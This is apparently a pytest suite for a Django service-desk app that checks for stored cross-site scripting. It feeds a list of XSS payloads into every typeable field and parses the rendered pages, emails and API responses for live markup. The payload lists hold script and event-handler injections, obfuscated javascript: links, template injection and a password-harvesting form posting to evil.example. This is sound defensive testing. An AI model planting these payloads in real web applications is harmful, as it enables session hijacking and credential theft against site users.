"""Stored XSS: hostile text typed into every field a person can type comes out inert everywhere.

One parametrized test: each payload is put into every typeable field at once (names, request title, form
answers, replies and internal notes, canned responses, thanks, ratings, follow-up notes, assessment
criteria and comments, saved views, transfer reasons, token names), then every page that shows them is
read as HTML by a parser. "Inert" means the parser finds no element or attribute the app did not write
itself: no script but this site's by URL, no event handler attribute, no javascript: or data: URL, no
iframe, object or embed. Emails' HTML parts are checked the same way; API answers are JSON
served as such (never HTML) and say nosniff.
"""

from __future__ import annotations

from datetime import timedelta
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

import pytest
from django.conf import settings
from django.core import mail
from django.urls import reverse
from django.utils import timezone
from rest_framework.test import APIClient

from departments.models import CannedResponse, Profile
from requests_app import services
from requests_app.feedback import services as feedback_services
from requests_app.feedback.models import FeedbackFollowUp
from requests_app.feedback.rating_links import rating_url
from requests_app.feedback.services.assessments import Score
from requests_app.feedback.services.summaries import summaries_refresh
from requests_app.models import SavedView

from . import factories

pytestmark = pytest.mark.usefixtures("fast_password_hashing")

PAYLOADS = [
    "<script>alert('x1')</script>",
    '"><img src=x onerror=alert("x2")>',
    "<svg/onload=alert('x3')>",
    "[click me](javascript:alert('x4'))",
    "[click](JaVaScRiPt&#58;alert('x5'))",
    "<a href=\"jav&#x09;ascript:alert('x6')\">x</a>",
    '<iframe src="https://evil.example/"></iframe>',
    "![pic](x\" onerror=\"alert('x7'))",
    "<object data=\"data:text/html,<script>alert('x8')</script>\"></object>",
    "{{ request.user.password }}{% debug %}",
    "[Sign in again](//evil.example/x1)",
    '<a href="//evil.example/x2">again</a>',
    "[back](/\\evil.example/x3)",
    "[off site](https://evil.example/x4)",
    '<form action="https://evil.example/steal"><input name="password"></form>',
    "<style>body{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
]

# Hosts a page may link to without "nofollow": the desk itself (tests run it as "testserver").
SITE_HOSTS = {"testserver", urlsplit(settings.SITE_URL).hostname}
OFF_SITE_REL = {"noopener", "noreferrer", "nofollow"}


class InertChecker(HTMLParser):
    """Collects every element and attribute that could run code, load a foreign page or restyle this one.

    Links: a scheme-relative ("//host") or backslash ("/\\host") link is always a problem (browsers take
    both off site); an absolute link to another host must say ``rel="noopener noreferrer nofollow"``.
    Every form the app writes states its method, so a form without one came from someone's text.
    """

    FORBIDDEN_TAGS = {"iframe", "object", "embed", "frame", "frameset", "applet", "base", "meta"}
    URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster"}

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_head = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "head":
            self.in_head = True
        source = values.get("src") or ""
        if tag == "script" and not (source.startswith("/") and not source.startswith("//")):
            self.problems.append(f"<script {values}>")  # only scripts of this site, by URL
        if tag in self.FORBIDDEN_TAGS and not (tag == "meta" and self.in_head):
            self.problems.append(f"<{tag}>")
        if tag == "style" or (tag == "link" and not self.in_head):
            self.problems.append(f"<{tag} {values}>")
        if tag == "form" and (not values.get("method") or self.off_site(values.get("action") or "")):
            self.problems.append(f"<form {values}>")
        href = values.get("href") or ""
        if tag in ("a", "area") and self.off_site(href):
            rel = set((values.get("rel") or "").split())
            if href.replace("\\", "/").startswith("//") or not rel >= OFF_SITE_REL:
                self.problems.append(f"{tag}[href={href!r} rel={values.get('rel')!r}]")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"{tag}[{name}]")
            if name in self.URL_ATTRIBUTES and value:
                compact = "".join(value.split()).lower()
                if compact.startswith(("javascript:", "vbscript:")) or (compact.startswith("data:") and tag != "img"):
                    self.problems.append(f"{tag}[{name}={value!r}]")

    @staticmethod
    def off_site(url: str) -> bool:
        compact = "".join(url.split()).replace("\\", "/")
        if compact.startswith("//"):
            return True
        host = urlsplit(compact).hostname
        return host is not None and host not in SITE_HOSTS

    def handle_endtag(self, tag: str) -> None:
        if tag == "head":
            self.in_head = False


def assert_inert(html: str, where: str) -> None:
    """The payload may be on the page as text (escaped): that is the point. Nothing of it may be markup."""
    checker = InertChecker()
    checker.feed(html)
    assert not checker.problems, f"{where}: {checker.problems}"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_text_everywhere_comes_out_inert(world: Any, client_for: Any, payload: str) -> None:
    hostile = payload
    for user in (world.requester, world.agent, world.lead):
        user.first_name, user.last_name = hostile[:150], hostile[:150]
        user.save(update_fields=["first_name", "last_name"])
    Profile.objects.create(user=world.requester, department=world.hr)
    calendar = factories.make_calendar("Office")
    world.it.calendar = calendar
    world.it.save(update_fields=["calendar"])
    CannedResponse.objects.create(
        department=world.it, title=hostile[:120], body=f"Hi {{{{ requester_name }}}} {hostile}"
    )
    # What admins and leads write into the catalog: the service's texts, a field's label and help text.
    world.laptop.description = world.laptop.what_you_get = world.laptop.what_to_provide = hostile
    world.laptop.save(update_fields=["description", "what_you_get", "what_to_provide"])
    world.laptop.fields.filter(name="asset_tag").update(label=hostile[:120], help_text=hostile[:255])
    with_mail = mail.outbox

    sr = services.request_file(
        service=world.laptop,
        requester=world.requester,
        title=hostile[:200],
        values={"asset_tag": hostile, "reason": "Slow", "needed_by": None, "photo": None},
    )
    services.watcher_add(service_request=sr, user=world.colleague, by=world.requester)
    services.comment_add(service_request=sr, author=world.agent, body=hostile)
    services.comment_add(service_request=sr, author=world.agent, body=hostile, internal=True)
    services.comment_add(service_request=sr, author=world.requester, body=hostile)
    services.promise_make(service_request=sr, by=world.agent, due_at=timezone.now() + timedelta(days=2))
    services.request_resolve(service_request=sr, by=world.agent, resolution_note=hostile)
    feedback_services.feedback_give(service_request=sr, by=world.requester, rating=1, comment=hostile)
    feedback_services.kudos_give(
        service_request=sr, sender=world.requester, recipient=world.agent, message=hostile[:280]
    )
    feedback_services.follow_up_close(
        follow_up=FeedbackFollowUp.objects.get(), by=world.lead, action_taken=hostile, tell_requester=True
    )
    other = services.request_file(service=world.laptop, requester=world.requester, title="Second", values={})
    services.request_transfer(service_request=other, to_service=world.certificate, by=world.agent, reason=hostile)
    third = services.request_file(service=world.laptop, requester=world.requester, title=hostile[:200], values={})
    SavedView.objects.create(department=world.it, owner=world.lead, name=hostile[:80], query="q=x", shared=True)
    services.api_token_create(user=world.requester, name=hostile[:80])
    assessment = feedback_services.assessment_start(
        department=world.it,
        by=world.lead,
        title=hostile[:120],
        closes_at=timezone.now() + timedelta(days=7),
        respondent_departments=[world.hr],
        custom_criteria=["Clarity " + hostile[:60]],
    )
    invitation = assessment.invitations.get(respondent=world.requester)
    criteria = {c.key: Score(4, hostile) for c in assessment.criteria.all()}
    feedback_services.assessment_answer(invitation=invitation, by=world.requester, scores=criteria)
    open_assessment = feedback_services.assessment_start(
        department=world.it,
        by=world.lead,
        title="Open " + hostile[:100],
        closes_at=timezone.now() + timedelta(days=7),
        respondent_departments=[world.hr],
        custom_criteria=["Kindness " + hostile[:60]],
    )
    open_invitation = open_assessment.invitations.get(respondent=world.requester)
    summaries_refresh(days=[timezone.localdate()])

    pages = {
        world.requester: [
            reverse("requests_app:request_detail", args=[sr.reference]),
            reverse("requests_app:my_requests"),
            reverse("requests_app:profile"),
            reverse("feedback:person", args=[world.agent.username]),
            reverse("feedback:thanks_board", args=[world.it.slug]),
            reverse("feedback:request_thank", args=[sr.reference]),
            rating_url(request_id=sr.pk, user_id=world.requester.pk, score=5),
            reverse("feedback:assessment_answer", args=[invitation.token]),
            reverse("feedback:assessment_answer", args=[open_invitation.token]),
            reverse("requests_app:catalog"),
            reverse("requests_app:service_detail", args=[world.laptop.pk]),
        ],
        world.colleague: [reverse("requests_app:request_detail", args=[sr.reference])],
        world.lead: [
            reverse("requests_app:request_detail", args=[sr.reference]),
            reverse("requests_app:queue", args=[world.it.slug]),
            reverse("requests_app:queue", args=[world.it.slug]) + "?status=all&q=" + "x",
            reverse("requests_app:canned_response_list", args=[sr.reference]),
            reverse("feedback:department_dashboard", args=[world.it.slug]),
            reverse("feedback:monthly_review", args=[world.it.slug, f"{timezone.localdate():%Y-%m}"]),
            reverse("feedback:assessment_detail", args=[assessment.pk]),
            reverse("feedback:assessment_list", args=[world.it.slug]),
            reverse("feedback:company"),
            reverse("requests_app:request_transfer", args=[sr.reference]),
        ],
        world.other_agent: [reverse("requests_app:request_detail", args=[other.reference])],
        world.admin: [
            reverse("admin:requests_app_servicerequest_change", args=[sr.pk]),
            reverse("admin:departments_auditentry_changelist"),
        ],
    }
    for user, paths in pages.items():
        client = client_for(user)
        for path in paths:
            response = client.get(path)
            assert response.status_code == 200, (user, path, response.status_code)
            assert_inert(response.content.decode(), f"{user.username} {path}")

    # The queue row that HTMX swaps in after a claim from the queue.
    row = client_for(world.agent).post(
        reverse("requests_app:request_claim", args=[third.reference]), {"from_row": "1"}, HTTP_HX_REQUEST="true"
    )
    assert row.status_code == 200
    assert third.reference in row.content.decode()
    assert_inert(row.content.decode(), "queue row")

    for message in [*with_mail, *mail.outbox]:
        for content, kind in getattr(message, "alternatives", []):
            if kind == "text/html":
                assert_inert(content, f"email {message.subject}")
        assert "\n" not in message.subject

    api = APIClient()
    api.force_authenticate(world.lead)
    detail = api.get(reverse("api:request", args=[sr.reference]))
    listing = api.get(reverse("api:queue", args=[world.it.slug]) + "?status=all")
    for response in (detail, listing):
        assert response.status_code == 200
        assert response["Content-Type"] == "application/json"
        assert response["X-Content-Type-Options"] == "nosniff"
    # Data, exactly as typed: the API neither runs nor mangles it (clients escape when they display).
    assert detail.json()["title"] == hostile[:200]
    assert detail.json()["comments"][0]["body"] == hostile


@pytest.mark.parametrize(
    "markup",
    [
        "<script>alert(1)</script>",
        '<img src="x" onerror="alert(1)">',
        '<a href=" javascript:alert(1)">x</a>',
        '<svg onload="alert(1)"></svg>',
        '<iframe src="https://evil.example/"></iframe>',
        '<form action="javascript:alert(1)"></form>',
        '<script src="//evil.example/x.js"></script>',
        '<a href="//evil.example/">x</a>',
        '<a href="/\\evil.example/">x</a>',
        '<a href="https://evil.example/">x</a>',
        '<a href="https://evil.example/" rel="nofollow">x</a>',
        '<form action="https://evil.example/"></form>',
        "<form><input name=password></form>",
        "<style>body{display:none}</style>",
        '<link rel="stylesheet" href="/x.css">',
    ],
)
def test_the_checker_catches_markup_that_would_run(markup):
    """The test above can fail: this is what it would find if a template or filter let markup through."""
    with pytest.raises(AssertionError):
        assert_inert(f"<html><body><p>{markup}</p></body></html>", "sample")


def test_the_checker_lets_the_apps_own_markup_pass():
    """Links within the site, off-site links marked as such, forms with a method, and the head's links."""
    assert_inert(
        '<html><head><link rel="stylesheet" href="/static/x.css"><meta charset="utf-8"></head><body>'
        '<a href="/requests/IT-1/">x</a><a href="http://testserver/x">y</a>'
        '<a href="https://example.org/" rel="nofollow noopener noreferrer">z</a>'
        '<form method="post" action="/x/"></form></body></html>',
        "sample",
    )
